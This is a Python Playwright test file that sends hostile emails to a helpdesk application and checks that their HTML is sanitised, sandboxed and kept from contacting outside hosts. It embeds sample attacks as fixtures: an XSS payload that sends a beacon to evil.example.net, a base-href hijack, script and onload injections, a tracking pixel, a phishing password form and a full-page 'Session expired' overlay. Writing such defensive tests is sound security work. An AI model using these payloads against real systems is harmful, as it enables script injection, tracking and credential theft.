"""Mails of strangers who want the agent's browser to act for them: nothing runs, nothing leaves, nothing is loaded.

What the fixture `desk` asserts at the end of each test counts here: no request to anybody else, no complaint of a
policy (what the policy has to stop should not have come so far), no dialog.
"""

import re
import smtplib
from base64 import b64encode
from collections.abc import Callable
from pathlib import Path
from urllib.parse import quote

import pytest
from playwright.sync_api import Page, expect
from town import Desk, Town

PAYLOAD = "alert(1),new Image().src=&#96;//evil.example.net/${Math.random()}&#96;"
ESCAPED = re.compile(r"\\(?:x([0-9a-f]{2})|u([0-9a-f]{4}))")
OPEN_ALL = "document.querySelectorAll('details').forEach((each) => { each.open = true; })"
STRANGE_SCRIPTS = "[...document.scripts].map((each) => each.src).filter((each) => !each.startsWith(location.origin))"
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
HTML = """<html><head><title>x</title><base href="https://evil.example.net/">
<style>body { display: none }</style></head><body onload="alert(1)">
<h1 style="color: #b00">Your parcel</h1><p>Dear customer, <b>please</b> look:</p>
<img src="https://evil.example.net/pixel.png?who=agent" width="1" height="1"><img src="cid:logo@here" alt="our logo">
<a href="https://evil.example.net/track">the parcel</a><script>alert(2)</script>
<form action="https://evil.example.net/"><input name="password" type="password"><button>Log in</button></form>"""


def vectors() -> list[str]:
    """Each way in, as it is written in a mail."""
    lines = Path(__file__).with_name("vectors.txt").read_text(encoding="utf-8").split("\n")
    return [ESCAPED.sub(lambda found: chr(int(found[1] or found[2], 16)), line).replace("{P}", PAYLOAD)
            for line in lines if line[:1] not in ("", "#")]


def word(text: str) -> str:
    """An encoded word: whatever it is, it comes through."""
    return f"=?utf-8?B?{b64encode(text.encode()).decode()}?="


def mail(vector: str, number: int, html: str) -> bytes:
    """The vector in every field that a mail has for words."""
    plain = vector.replace("\n", " ").replace("\r", " ")
    inside = quote(plain, safe="")
    return "\r\n".join([
        f"From: {word(plain)} <v{number}@vectors.example.net>", f"To: {word(plain)} <support@example.com>",
        f"Reply-To: {word(plain)} <v{number}@vectors.example.net>", f"Subject: {word(plain)}",
        f"Message-ID: <{inside}.{number}@vectors.example.net>", f"References: <{inside}@x> <{word(plain)}@y>",
        f"In-Reply-To: <{inside}@z>", "Date: Mon, 23 Nov 2026 09:00:00 +0000", f"X-Mailer: {word(plain)}",
        f"List-Unknown: {word(plain)}", f"Keywords: {word(plain)}", f"Organization: {word(plain)}", "MIME-Version: 1.0",
        'Content-Type: multipart/mixed; boundary="b"', "",
        "--b", 'Content-Type: multipart/alternative; boundary="a"', "",
        "--a", "Content-Type: text/plain; charset=utf-8", "Content-Transfer-Encoding: base64", "",
        b64encode(f"{vector}\n\n> {vector}".encode()).decode(),
        "--a", "Content-Type: text/html; charset=utf-8", "Content-Transfer-Encoding: base64", "",
        b64encode(html.encode()).decode(), "--a--",
        "--b", f"Content-Type: image/png; name*=UTF-8''{inside}.png", "Content-ID: <logo@here>",
        f"Content-Disposition: attachment; filename*=UTF-8''{inside}.png", "Content-Transfer-Encoding: base64", "",
        PIXEL,
        "--b", f"Content-Type: text/html; name*=UTF-8''{inside}.html",
        f"Content-Disposition: attachment; filename*=UTF-8''{inside}.html", "Content-Transfer-Encoding: base64", "",
        b64encode(html.encode()).decode(), "--b--", "",
    ]).encode()


def send(town: Town, *contents: bytes) -> None:
    """In one session, and everything done behind it."""
    town.world.stranger("sender@vectors.example.net")
    with smtplib.SMTP("127.0.0.1", town.world.port, local_hostname="mx.vectors.example.net") as client:
        for content in contents:
            client.sendmail("sender@vectors.example.net", ["support@example.com"], content)
    town.do(town.world.settle())


def newest(town: Town) -> str:
    return town.do(town.world.requests())[-1].number


def unfold(page: Page) -> None:
    """Open all that is folded, the frames with the designed mails too."""
    page.evaluate(OPEN_ALL)
    for frame in page.locator("iframe.frame").all():
        frame.scroll_into_view_if_needed()
        frame.content_frame.locator("body").wait_for(state="attached")


def test_a_hostile_html_mail_is_read_and_nothing_happens(town: Town, desk: Callable[..., Desk]) -> None:
    town.employs("reader", "한독자")
    send(town, mail("parcel", 1, HTML))
    browser = desk()
    page = browser.logs_in("reader")
    page.goto(f"/requests/{newest(town)}")
    unfold(page)
    frame = page.frame_locator("iframe.frame")
    expect(frame.locator("h1")).to_have_text("Your parcel")
    expect(frame.locator("h1")).to_have_css("color", "rgb(187, 0, 0)")
    expect(frame.locator("form, script, base[href], style + style, input")).to_have_count(0)
    assert frame.get_by_alt_text("our logo").evaluate("each => each.naturalWidth") == 1  # it came along
    link = frame.get_by_role("link", name="the parcel")
    assert link.get_attribute("rel") == "noopener noreferrer nofollow"
    assert browser.strangers() == []


def test_images_from_the_internet_are_loaded_when_asked_and_told_nothing(town: Town, desk: Callable[..., Desk]) -> None:
    town.employs("viewer", "한화면")
    send(town, mail("images", 2, HTML))
    browser = desk()
    page = browser.logs_in("viewer")
    page.goto(f"/requests/{newest(town)}")
    unfold(page)
    expect(page.locator(".frame-acts")).to_contain_text("외부 이미지는 불러오지 않습니다")
    with browser.context.expect_event("request", lambda request: "evil" in request.url) as asked:
        page.get_by_role("link", name="이미지 불러오기").click()
    assert asked.value.url == "https://evil.example.net/pixel.png?who=agent"
    assert asked.value.all_headers().get("referer", "") == ""
    page.wait_for_timeout(50)
    assert set(browser.strangers()) == {"https://evil.example.net/pixel.png?who=agent"}
    browser.asked.clear()
    browser.faults.clear()  # that the image cannot be had


def test_a_mail_cannot_cover_the_page_nor_leave_its_frame(town: Town, desk: Callable[..., Desk]) -> None:
    town.employs("watcher", "한지킴")
    cover = '<div style="position:fixed;inset:0;z-index:99999;background:red">Session expired. Log in again</div>'
    send(town, mail("cover", 3, f'{HTML}{cover}<a href="/logout" target="_top">Log in</a>'))
    page = desk().logs_in("watcher")
    page.goto(f"/requests/{newest(town)}")
    unfold(page)
    frame = page.frame_locator("iframe.frame")
    expect(frame.get_by_text("Session expired")).to_have_css("position", "static")
    assert page.locator("iframe.frame").get_attribute("sandbox") == "allow-popups allow-popups-to-escape-sandbox"
    assert frame.locator("body").evaluate("() => window.origin") == "null"
    expect(frame.locator("a[href^='/']")).to_have_count(0)
    page.reload()
    expect(page.locator("#request")).to_be_visible()


@pytest.mark.timeout(600)
def test_two_hundred_ways_in_through_every_field_lead_nowhere(town: Town, desk: Callable[..., Desk]) -> None:
    ways = vectors()
    assert len(set(ways)) >= 200
    town.employs("tester", "한시험", role="operator")
    first = len(town.do(town.world.requests()))
    send(town, *(mail(vector, number, f"<p>{vector}</p>") for number, vector in enumerate(ways)))
    requests = town.do(town.world.requests())[first:]
    assert len(requests) == len(ways)
    page = desk().logs_in("tester")
    seen, following = 0, "/?state=any"
    while following:
        page.goto(following)
        seen += page.locator(".rows .line:not(.legend)").count()
        following = page.locator("a[rel=next]").get_attribute("href") if page.locator("a[rel=next]").count() else ""
    assert seen >= len(ways)
    shown = 0
    for request in joined(town, [each.number for each in requests]):
        page.goto(f"/requests/{request}")
        unfold(page)
        expect(page.locator("h1 bdi")).to_have_count(1)
        assert page.title().startswith(request)
        shown += page.locator("iframe.frame").count()
        assert page.evaluate(STRANGE_SCRIPTS) == []
    assert shown == len(ways)
    page.goto(f"/requests/{requests[0].number}/history")
    expect(page.locator("table")).to_be_visible()


def joined(town: Town, numbers: list[str]) -> list[str]:
    """Ten by ten they become one request: what is left."""
    acts = town.world.agent("tester").acts
    for number in numbers:
        if (first := numbers[numbers.index(number) // 10 * 10]) != number:
            town.do(acts.merge(number, "tester", first))
    return numbers[::10]
